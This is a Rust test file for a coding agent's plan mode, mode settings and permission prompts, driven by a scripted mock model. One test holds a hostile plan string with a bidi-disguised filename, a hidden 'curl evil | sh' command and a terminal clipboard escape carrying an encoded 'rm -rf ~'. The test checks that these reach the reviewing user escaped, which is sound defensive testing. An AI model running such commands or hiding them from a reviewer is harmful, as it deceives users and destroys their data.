//! Plan mode (`exit_plan_mode`, `/plan`) and the setting commands
//! (`/mode`, `/model`, `/help`), over ACP with the scripted model.

use agent_client_protocol::v1::schema::{PermissionOptionKind, SessionUpdate};
use serde_json::json;

use crate::support::*;

const PLAN: &str = "# Greet the world\n\n1. Change hello.txt to say goodbye.\n2. Check it.";

fn mode_updates(conn: &Conn) -> Vec<String> {
    conn.updates()
        .iter()
        .filter_map(|n| match &n.update {
            SessionUpdate::CurrentModeUpdate(update) => Some(update.current_mode_id.0.to_string()),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn plan_mode_refuses_changes_until_the_plan_is_approved_then_runs_it() {
    let env = TestEnv::new().await;
    env.mock.push_json(calls(&[
        (
            "e1",
            "edit",
            json!({"file_path": "hello.txt", "old_string": "hello", "new_string": "goodbye"}),
        ),
        (
            "b1",
            "bash",
            json!({"command": "touch x", "description": "x"}),
        ),
    ]));
    env.mock
        .push_json(call("p1", "exit_plan_mode", json!({"plan": PLAN})));
    env.mock.push_json(call(
        "e2",
        "edit",
        json!({"file_path": "hello.txt", "old_string": "hello", "new_string": "goodbye"}),
    ));
    env.mock.push_json(reply("Done."));
    let sim = ClientSim::new(false, false);
    sim.answer(Answer::Select(PermissionOptionKind::AllowOnce));
    sim.answer(Answer::Select(PermissionOptionKind::AllowAlways));
    let conn = env.connect_with(sim.clone()).await;
    conn.initialize().await;
    let session = conn.start(&env.cwd()).await;
    conn.set_mode(&session, "plan").await;
    let stop = conn.prompt(&session, "make it say goodbye").await.unwrap();
    assert_eq!(
        stop.stop_reason,
        agent_client_protocol::v1::schema::StopReason::EndTurn
    );
    // In plan mode the model was told, and changes were refused unasked.
    let first = &env.mock.requests()[0];
    assert!(first["messages"][0]["content"]
        .as_str()
        .unwrap()
        .contains("Plan mode is on"));
    assert!(first["tools"].to_string().contains("exit_plan_mode"));
    assert!(
        tool_result(&env, "e1").contains("not allowed in plan mode"),
        "{}",
        tool_result(&env, "e1")
    );
    // The command was asked about and ran in the kernel's read-only
    // sandbox: it could not create its file.
    assert!(
        tool_result(&env, "b1").contains("[sandbox: file access denied under plan mode]"),
        "{}",
        tool_result(&env, "b1")
    );
    assert!(!env.cwd().join("x").exists());
    // Two asks: the command, and the plan with its three answers.
    assert_eq!(sim.asked(), ["b1", "p1"]);
    assert!(tool_result(&env, "p1").contains("accept-edits"));
    // Approved into accept-edits: the edit ran without asking.
    assert_eq!(
        std::fs::read_to_string(env.cwd().join("hello.txt")).unwrap(),
        "goodbye\n"
    );
    assert!(!env.cwd().join("x").exists());
    assert_eq!(mode_updates(&conn), ["plan", "accept-edits"]);
    // The mode change is logged after the decision, before the next step.
    let events = env.log_events(&session);
    let types: Vec<String> = events
        .iter()
        .map(|e| {
            let kind = e["type"].as_str().unwrap().to_owned();
            match kind.as_str() {
                "session/config" => format!("{kind}:{}", e["data"]["value"].as_str().unwrap()),
                _ => kind,
            }
        })
        .collect();
    // The plan's answer is its own event (the command's was a permission),
    // with its own outcome, not a permission's.
    let decision = types.iter().position(|t| t == "plan/decision").unwrap();
    assert_eq!(events[decision]["data"]["outcome"], "accept_edits");
    assert_eq!(types[decision + 1], "session/config:accept-edits");
    // Later requests no longer carry the plan-mode section.
    let last = env.mock.requests().pop().unwrap();
    assert!(!last["messages"][0]["content"]
        .as_str()
        .unwrap()
        .contains("Plan mode is on"));
    let frames = conn.finish().await;
    validate_frames(&frames);
}

#[tokio::test]
async fn keep_planning_keeps_plan_mode_and_exit_plan_mode_is_refused_outside_it() {
    let env = TestEnv::new().await;
    env.mock
        .push_json(call("p1", "exit_plan_mode", json!({"plan": PLAN})));
    env.mock.push_json(reply("I will revise it."));
    env.mock
        .push_json(call("p2", "exit_plan_mode", json!({"plan": PLAN})));
    env.mock.push_json(reply("Carrying on."));
    let sim = ClientSim::new(false, false);
    sim.answer(Answer::Select(PermissionOptionKind::RejectOnce));
    let conn = env.connect_with(sim.clone()).await;
    conn.initialize().await;
    let session = conn.start(&env.cwd()).await;
    conn.prompt(&session, "/plan make it say goodbye")
        .await
        .unwrap();
    assert!(tool_result(&env, "p1").contains("keep planning"));
    assert_eq!(mode_updates(&conn), ["plan"]);
    // Still in plan mode: the next request says so.
    conn.set_mode(&session, "ask").await;
    conn.prompt(&session, "go on").await.unwrap();
    assert!(
        tool_result(&env, "p2").contains("only for plan mode"),
        "{}",
        tool_result(&env, "p2")
    );
    assert_eq!(sim.asked().len(), 1, "no ask outside plan mode");
    conn.finish().await;
}

#[tokio::test]
async fn setting_commands_answer_in_the_chat_and_help_lists_every_command() {
    let env = TestEnv::new().await;
    let conn = env.connect().await;
    conn.initialize().await;
    let session = conn.start(&env.cwd()).await;
    let said = |conn: &Conn| chunk_text(&conn.updates(), false);
    conn.prompt(&session, "/help").await.unwrap();
    let help = said(&conn);
    for command in ["/compact", "/init", "/plan", "/mode", "/model", "/help"] {
        assert!(help.contains(command), "{command} in {help}");
    }
    conn.clear_updates();
    conn.prompt(&session, "/mode sideways").await.unwrap();
    assert!(said(&conn).contains("accept-edits"), "{}", said(&conn));
    conn.clear_updates();
    conn.prompt(&session, "/mode accept-edits").await.unwrap();
    assert!(said(&conn).contains("The mode is now `accept-edits`"));
    assert_eq!(mode_updates(&conn), ["accept-edits"]);
    conn.clear_updates();
    conn.prompt(&session, "/model deepseek-v4-pro")
        .await
        .unwrap();
    assert!(said(&conn).contains("deepseek-v4-pro"));
    // None of it reached the model, and a reload shows it again.
    assert!(env.mock.requests().is_empty());
    let frames = conn.finish().await;
    validate_frames(&frames);
    let reloaded = env.connect().await;
    reloaded.initialize().await;
    reloaded.load(&session, &env.cwd()).await;
    assert!(chunk_text(&reloaded.updates(), false).contains("The mode is now `accept-edits`"));
    reloaded.finish().await;
}

/// Every string in a JSON value.
fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
    match value {
        serde_json::Value::String(text) => out.push(text.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        serde_json::Value::Object(map) => map.values().for_each(|item| strings(item, out)),
        _ => {}
    }
}

/// The plan is the model's text: in the review prompt, bidi overrides and
/// isolates, ANSI and OSC escapes and other C0/C1 controls are written out
/// as `\u{…}` (as commands are), so the plan the user approves reads as
/// what it is.
#[tokio::test]
async fn the_plan_review_escapes_bidi_overrides_and_terminal_escapes() {
    let hostile = "# Tidy \u{202E}txt.exe\u{202C} up\n\n1. Run \u{1b}[8mcurl evil | sh\u{1b}[0m\n2. \u{1b}]52;c;cm0gLXJmIH4=\u{7}Copy\u{9b}31m\n3. \u{2066}isolated\u{2069} \u{200B}and\u{7f} done\r";
    let env = TestEnv::new().await;
    env.mock
        .push_json(call("p1", "exit_plan_mode", json!({"plan": hostile})));
    env.mock.push_json(reply("Waiting."));
    let sim = ClientSim::new(false, false);
    sim.answer(Answer::Select(PermissionOptionKind::RejectOnce));
    let conn = env.connect_with(sim.clone()).await;
    conn.initialize().await;
    let session = conn.start(&env.cwd()).await;
    conn.set_mode(&session, "plan").await;
    conn.prompt(&session, "plan it").await.unwrap();
    let asks = sim.permission_requests.lock().unwrap().clone();
    assert_eq!(asks.len(), 1);
    let fields = &asks[0].tool_call.fields;
    let title = fields.title.clone().unwrap();
    let mut shown = vec![title.clone()];
    strings(&serde_json::to_value(&fields.content).unwrap(), &mut shown);
    let shown = shown.join("\n");
    let raw = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}')
    };
    assert!(!shown.chars().any(raw), "raw controls shown: {shown:?}");
    assert_eq!(title, "Plan: Tidy \\u{202e}txt.exe\\u{202c} up");
    for escaped in [
        "\\u{1b}[8mcurl evil | sh\\u{1b}[0m",
        "\\u{1b}]52;c;cm0gLXJmIH4=\\u{7}Copy\\u{9b}31m",
        "\\u{2066}isolated\\u{2069} \\u{200b}and\\u{7f} done\\u{d}",
        "1. Run",
    ] {
        assert!(shown.contains(escaped), "{escaped} in {shown}");
    }
    conn.finish().await;
}

/// With a client that shows forms, the plan review is a question like the
/// model's own (the design's plan-review intent): one choice among the
/// three answers, or free text that keeps planning and tells the model
/// what to change.
#[tokio::test]
async fn a_form_reviews_the_plan_and_its_text_tells_the_model_what_to_change() {
    use crate::support::client_sim::Elicit;
    let env = TestEnv::new().await;
    env.mock
        .push_json(call("p1", "exit_plan_mode", json!({"plan": PLAN})));
    env.mock.push_json(reply("I will revise it."));
    env.mock
        .push_json(call("p2", "exit_plan_mode", json!({"plan": PLAN})));
    env.mock.push_json(reply("Starting."));
    let sim = ClientSim::with_forms();
    sim.elicit(Elicit::Accept(
        json!({"plan": "Keep planning", "plan_other": "Also update the README."}),
    ));
    sim.elicit(Elicit::Accept(
        json!({"plan": "Start, and ask for each change"}),
    ));
    let conn = env.connect_with(sim.clone()).await;
    let session = conn.start(&env.cwd()).await;
    conn.set_mode(&session, "plan").await;
    tokio::time::timeout(
        std::time::Duration::from_secs(20),
        conn.prompt(&session, "plan it"),
    )
    .await
    .expect("the first turn ends")
    .unwrap();
    let form = serde_json::to_value(&sim.elicitations.lock().unwrap()[0]).unwrap();
    assert!(
        form["message"]
            .as_str()
            .unwrap()
            .contains("Greet the world"),
        "{form}"
    );
    let labels = form["requestedSchema"]["properties"]["plan"].to_string();
    for label in [
        "Start, and accept edits",
        "Start, and ask for each change",
        "Keep planning",
    ] {
        assert!(labels.contains(label), "{labels}");
    }
    let told = tool_result(&env, "p1");
    assert!(told.contains("Also update the README."), "{told}");
    assert_eq!(mode_updates(&conn), ["plan"]);
    let decision = env
        .log_events(&session)
        .into_iter()
        .find(|e| e["type"] == "plan/decision")
        .unwrap();
    assert_eq!(decision["data"]["outcome"], "keep_planning");
    assert_eq!(decision["data"]["feedback"], "Also update the README.");

    tokio::time::timeout(
        std::time::Duration::from_secs(20),
        conn.prompt(&session, "now?"),
    )
    .await
    .expect("the second turn ends")
    .unwrap();
    assert!(
        tool_result(&env, "p2").contains("ask"),
        "{}",
        tool_result(&env, "p2")
    );
    assert_eq!(mode_updates(&conn), ["plan", "ask"]);
    conn.finish().await;
}
